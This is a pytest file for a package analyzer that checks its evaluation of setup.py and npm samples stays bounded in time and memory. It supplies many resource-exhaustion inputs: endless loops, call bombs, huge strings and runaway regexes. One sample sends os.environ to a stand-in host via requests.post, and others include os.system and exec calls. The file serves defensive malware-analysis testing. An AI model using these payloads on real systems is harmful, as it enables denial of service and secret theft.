"""Whatever a program does, its evaluation ends in bounded time and memory, and says if it was cut short."""

import tracemalloc

import pytest
from engine_flows import SAID, flows, program_of

from counting import calls_of
from ostiary.program.engine.script.patterns import bounded
from ostiary.program.engine.weight import bulk, fits
from ostiary.program.flow import Act, Taint

CALLS = 40_000_000
"""Of functions, some for each step that an artifact is given."""
BYTES = 160 << 20
BIG = "a = 'a' * 16000000\n"
ENDS = "import os\nos.system(str(x)[:9])\n"
PYTHON = {
    "an endless loop": "x = 0\nwhile True:\n    x += 1\n    os.system('a')\n",
    "an endless loop of joins": "x = 'ab'\nwhile True:\n    x = x.join([x, x])\n",
    "an endless loop of sums": "x = 'ab'\nwhile True:\n    x += x\n",
    "an endless loop of products": "x = 2\nwhile True:\n    x *= x\n",
    "an endless loop of spreads": "x = [1, 2]\nwhile True:\n    x = [*x, *x]\n",
    "an endless generator": "def f():\n    while True:\n        yield os.environ\nfor x in f():\n    pass\n",
    "ranges inside each other": "for i in range(10**12):\n    for j in range(10**12):\n        x = i ^ j\n",
    "lists in a loop": "for i in range(60000):\n    x = list(range(60000))\n",
    "sorted lists in a loop": "a = list(range(60000))\nfor i in range(60000):\n    x = sorted(a)\n",
    "parts in a loop": "a = 'a ' * 100000\nfor i in range(60000):\n    x = a.split()\n",
    "fills in a loop": "a = [0] * 60000\nfor i in range(60000):\n    x = '%s' % a\n",
    "large texts in a loop": "for i in range(60000):\n    x = 'a' * 16000000\n",
    "a list of large texts": "x = []\nfor i in range(60000):\n    x.append('a' * 16000000 + str(i))\n",
    "keys in a loop": "import hashlib\nfor i in range(60000):\n"
    "    x = hashlib.pbkdf2_hmac('sha1', b'a', b'b', 200000)\nexec(x)\n",
    "lists in lists in a loop": "a = [['x'] * 400] * 400\nfor i in range(60000):\n    x = '%s' % a\n",
    "a list that grows while it is gone through": "a = [1]\nfor x in a:\n    a.append(x)\n",
    "a function that calls itself": "def f(n):\n    return f(n + 1) + f(n + 2)\nx = f(1)\n",
    "a bomb of calls": "".join(f"def f{n}(x):\n    return f{n + 1}(x) + f{n + 1}(x)\n" for n in range(30))
    + "def f30(x):\n    return eval(x)\nx = f0('1')\n",
    "a text that executes itself twice": "s = 'exec(s);exec(s)'\nexec(s)\nx = 1\n",
    "decorators without end": "def d(f):\n    return d(d)\n@d\ndef x():\n    pass\n",
    "a class made from itself": "class A:\n    pass\nclass A(A):\n    pass\nA.b = A\nx = A().b.b.c.d\n",
    "many names and branches": "".join(f"n{n} = 1\n" for n in range(4000))
    + "if 1:\n    x = 1\nelse:\n    x = 2\n" * 4000,
    "a thousand million characters": "x = 'a' * 10**9\n",
    "a product of nothing": "x = '' * 10**30 + str([] * 10**30)\n",
    "a tower of powers": "x = 9**9**9**9\nx = 1 << 10**10\n",
    "a number of too many digits": "x = str(1 << 60000)\n",
    "a sum that is no double": "x = sum([1.0, 1 << 60000])\n",
    "a place beyond all places": "x = []\nx.insert(10**30, 1)\nx[10**30:10**40]\n",
    "a join of large texts": BIG + "x = a.join([a] * 1000)\n",
    "a chain of large texts": BIG + "x = " + " + ".join(["a"] * 60) + "\n",
    "a fill of large texts": BIG + "x = '%s' * 60 % ((a,) * 60)\n",
    "a fill by name of large texts": BIG + "x = '%(a)s' * 60 % {'a': a}\n",
    "a format of large texts": BIG + "x = ('{0}' * 60).format(a)\n",
    "an f-string of large texts": BIG + "x = f'" + "{a}" * 60 + "'\n",
    "tabs": "x = ('\\t' * 1000000).expandtabs(1000)\n",
    "a translation": "x = ('a' * 1000).translate({97: 'b' * 1000000})\n",
    "parts of a large text": "x = ('a ' * 8000000).split()\n",
    "lines of a large text": "x = ('a\\n' * 8000000).splitlines()\n",
    "lists of one list": "a = [0] * 260000\nx = '%s' % [[a] * 2000]\n",
    "a list in itself": "x = []\nx.append(x)\nx = '%s' % x\n",
    "a dict in itself": "x = {}\nx['x'] = x\nx = '%s' % x\n",
}  # fmt: skip
JAVASCRIPT = {
    "an endless loop": "let x = 'a'; while (true) { x += x; cp.exec('b'); }",
    "an array that doubles": "let x = [1, 2]; for (let i = 0; i < 1e9; i++) { x = [...x, ...x]; }",
    "an array with gaps": "const x = []; for (let i = 0; i < 60000; i++) { x[i * 4000] = 1; }",
    "a rotation without end": "const x = ['a', 'b']; while (true) { try { if (parseInt(x[0]) === 5) break;"
    " x.push(x.shift()); } catch (e) { x.push(x.shift()); } }",
    "a join of large texts": "const a = 'a'.repeat(1e7); const x = [a, a, a, a, a, a].join(a);",
    "many large texts": "const a = 'a'.repeat(1e7); const x = a.concat(" + ",".join(["a"] * 200) + ");",
    "a replacement by large texts": "const b = 'b'.repeat(1e7);"
    " const x = 'a'.repeat(20000).replace(/a/g, () => b);",
    "flat arrays": "let x = [1]; for (let i = 0; i < 30; i++) { x = [x, x].flat(); }",
    "arrays of one array": f"const a = [{'0,' * 999}0]; const b = [{'a,' * 999}a];"
    f" const x = '' + [{'b,' * 999}b];",
    "an array in itself": "const x = []; x.push(x); x + '';",
    "a pattern with two ways": "const x = 'a'.repeat(40).replace(/(a|a)*b/g, '');",
    "a pattern with many ends": "const x = 'a'.repeat(30000).match(/a*a*a*a*c/);",
    "a pattern from every place": "const x = 'a'.repeat(1000000).replace(/a*c/g, '');",
    "a number that is no double": f"const a = 0x{'f' * 20000};"
    " const x = '' + a % 3 + a / 7 + a ** 2 + String(a);",
    "a root of less than nothing": "const x = (-8) ** 0.5 + (-8) ** (1 / 3);",
    "a getter of itself": "const x = { get a() { return this.a; } }; x.a;",
    "a function that calls itself": "function f(n) { return f(n + 1) + f(n + 2); } const x = f(1);",
}  # fmt: skip
NESTED = {
    "attributes": "os" + ".a" * 5000,
    "calls": "os" + ".a()" * 3000,
    "lists": "[" * 3000 + "]" * 3000,
}


@pytest.mark.parametrize("name", PYTHON)
def test_python_ends(name: str) -> None:
    text = f"import os, base64\nbase64.b64decode('')\n{PYTHON[name]}{ENDS}"
    assert calls_of(lambda: program_of("sdist", {"setup.py": text})) < CALLS


@pytest.mark.parametrize("name", JAVASCRIPT)
def test_javascript_ends(name: str) -> None:
    head = "const cp = require('child_process'); atob('');\n"
    text = f"{head}{JAVASCRIPT[name]}\ncp.exec(x);\n"
    assert calls_of(lambda: program_of("npm", {"index.js": text})) < CALLS


@pytest.mark.parametrize("name", [one for one in PYTHON if "large text" in one])
def test_memory_is_bounded(name: str) -> None:
    tracemalloc.start()
    program_of(
        "sdist", {"setup.py": f"import os, base64\nbase64.b64decode('')\n{PYTHON[name]}{ENDS}"}
    )
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < BYTES * (2 if "list" in name else 1)


def test_what_was_cut_short_is_named() -> None:
    loop = "for i in range(10**12):\n    for j in range(10**12):\n        x = i ^ j\n"
    text = f"import base64\nx = base64.b64decode('')\n{loop * 40}exec(x)\n"
    program = program_of("sdist", {"setup.py": text, "other.py": "x = 1\n"})
    assert program.exhausted == {"sample-1.0/setup.py"}


@pytest.mark.parametrize("name", NESTED)
def test_what_nests_too_deep_is_named(name: str) -> None:
    for text in (f"x = {NESTED[name]}\n", f"def f():\n    x = {NESTED[name]}\n\n\nf()\n"):
        program = program_of("sdist", {"setup.py": f"import os\n{text}os.system('{SAID}')\n"})
        assert program.exhausted == {"sample-1.0/setup.py"}


def test_an_ordinary_program_is_seen_to_its_end() -> None:
    assert not program_of("sdist", {"setup.py": "import os\nx = 1\nos.system('a')\n"}).exhausted


def test_a_loop_whose_end_nobody_knows_keeps_what_it_carries() -> None:
    text = (
        "import os, requests\nx = ''\nwhile input():\n    x += str(os.environ)\n"
        "requests.post('https://c.example.invalid', data=x)\n"
    )
    [sent] = flows(text, Act.SEND)
    assert sent.has(Taint.ENVIRONMENT)


@pytest.mark.parametrize(
    "source", ["..", "[0-9a-f]{2}", r"\s+", r"\\x([0-9a-f]{2})", "(?:ab|cd)", "^(.)", "a|b"]
)
def test_patterns_of_decoders_are_tried_on_any_text(source: str) -> None:
    assert bounded(source, 1 << 24)


@pytest.mark.parametrize(
    "source", ["(a|a)*b", "(a?){30}b", "(a+)+", "a*a*c", "a+$", "(?<n>a)", "a" * 201]
)
def test_patterns_that_run_away_are_not(source: str) -> None:
    assert not bounded(source, 1 << 20)


def test_sizes_are_added_up() -> None:
    assert bulk(["ab", ("c", {"d": b"ef"})]) == 6
    assert fits(["a" * 100] * 100, glue=1)
    assert not fits(["a" * (1 << 20)] * 17)
